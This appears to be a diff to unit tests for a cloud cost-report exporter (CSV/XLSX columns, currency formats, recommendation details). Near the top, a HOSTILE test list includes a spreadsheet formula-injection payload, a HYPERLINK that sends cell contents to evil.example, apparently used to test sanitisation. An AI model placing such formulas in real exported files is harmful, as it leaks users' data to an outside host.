@@ -29,6 +29,7 @@ from shared.summary import summarize
 from shared.summary_store import dump_summary, load_summary
 from tests.unit.test_action_plan import _sample_recommendations
 
+COL = {name: i for i, name in enumerate(HEADERS)}
 SUB = "11111111-2222-3333-4444-555555555555"
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
@@ -94,8 +95,10 @@ def test_the_savings_of_the_export_are_the_report_s_per_currency() -> None:
     rows = _read_xlsx(xlsx_bytes(action_rows(summary)))[1:]
     monthly: dict[str, Decimal] = {}
     for row in rows:
-        if row[10] is not None:
-            monthly[row[12]] = monthly.get(row[12], Decimal(0)) + Decimal(str(row[10]))
+        if row[COL["Monthly savings"]] is not None:
+            monthly[row[COL["Currency"]]] = monthly.get(row[COL["Currency"]], Decimal(0)) + Decimal(
+                str(row[COL["Monthly savings"]])
+            )
     assert {c: round(v, 2) for c, v in monthly.items()} == {s.currency: s.monthly for s in summary.savings}
 
 
@@ -130,7 +133,7 @@ def test_csv_quoting_non_latin_text_and_markup() -> None:
     assert row[8] == 'Use managed disks & "zones", then restart'
     assert (row[3], row[6]) == ("Ελληνικά – Παραγωγή", "アラート-CPU使用率, 警报")
     assert '"Use managed disks & ""zones"", then restart"' in data.decode("utf-8-sig")
-    assert row[14] == "2026-11-30 22:15"
+    assert row[COL["Last updated (UTC)"]] == "2026-11-30 22:15"
 
 
 def test_xlsx_numbers_links_header_and_layout() -> None:
@@ -143,17 +146,59 @@ def test_xlsx_numbers_links_header_and_layout() -> None:
     workbook = openpyxl.load_workbook(io.BytesIO(data))
     sheet = workbook.active
     assert workbook.properties.title == "Cost report"
-    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == "A1:O4"
+    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == "A1:P4"
     assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb.endswith("1F4E79")
     assert sheet.column_dimensions["I"].width == 60
-    by_currency = {row[12].value: row for row in sheet.iter_rows(min_row=2)}
+    by_currency = {row[COL["Currency"]].value: row for row in sheet.iter_rows(min_row=2)}
     eur, jpy, unknown = by_currency["EUR"], by_currency["JPY"], by_currency[None]
-    assert (eur[10].value, eur[11].value) == (1234.5, 14814) and eur[10].data_type == "n"
-    assert eur[10].number_format == '#,##0.00 "EUR"' and jpy[10].number_format == '#,##0 "JPY"'
-    assert unknown[10].value is None  # an amount without a currency is not a figure anyone can add
-    assert eur[13].hyperlink.target == "https://learn.microsoft.com/azure/advisor/"
-    assert eur[14].value == datetime(2026, 11, 30, 22, 15) and eur[14].is_date
+    assert (eur[COL["Monthly savings"]].value, eur[COL["Annual savings"]].value) == (1234.5, 14814) and eur[
+        COL["Monthly savings"]
+    ].data_type == "n"
+    assert (
+        eur[COL["Monthly savings"]].number_format == '#,##0.00 "EUR"'
+        and jpy[COL["Monthly savings"]].number_format == '#,##0 "JPY"'
+    )
+    assert (
+        unknown[COL["Monthly savings"]].value is None
+    )  # an amount without a currency is not a figure anyone can add
+    assert eur[COL["Learn more"]].hyperlink.target == "https://learn.microsoft.com/azure/advisor/"
+    assert (
+        eur[COL["Last updated (UTC)"]].value == datetime(2026, 11, 30, 22, 15)
+        and eur[COL["Last updated (UTC)"]].is_date
+    )
     assert money_format('EUR" ;@') == "#,##0.00"
+
+
+def test_details_say_what_to_buy_or_resize() -> None:
+    resize = _rec(
+        1,
+        category="cost",
+        extended_properties={"currentSku": "Standard_D8s_v3", "targetSku": "Standard_D4s_v3"},
+    )
+    reserve = _rec(
+        2,
+        category="cost",
+        recommendation_type_id="reservation",
+        extended_properties={
+            "reservedResourceType": "VirtualMachines",
+            "displaySKU": "Standard_D2s_v3",
+            "displayQty": "6",
+            "term": "P3Y",
+            "lookbackPeriod": "30",
+        },
+    )
+    plan = _rec(
+        3,
+        category="cost",
+        recommendation_type_id="plan",
+        extended_properties={"term": "P1Y", "lookbackPeriod": "Last7Days"},
+    )
+    details = {r.resource_name: r.details for r in action_rows(summarize([resize, reserve, plan]))}
+    assert details == {
+        "r1": "Standard_D8s_v3 -> Standard_D4s_v3",
+        "r2": "6 x Standard_D2s_v3, 3 years, 30-day lookback",
+        "r3": "1 year, 7-day lookback",
+    }
 
 
 def test_an_empty_report_exports_its_header() -> None:
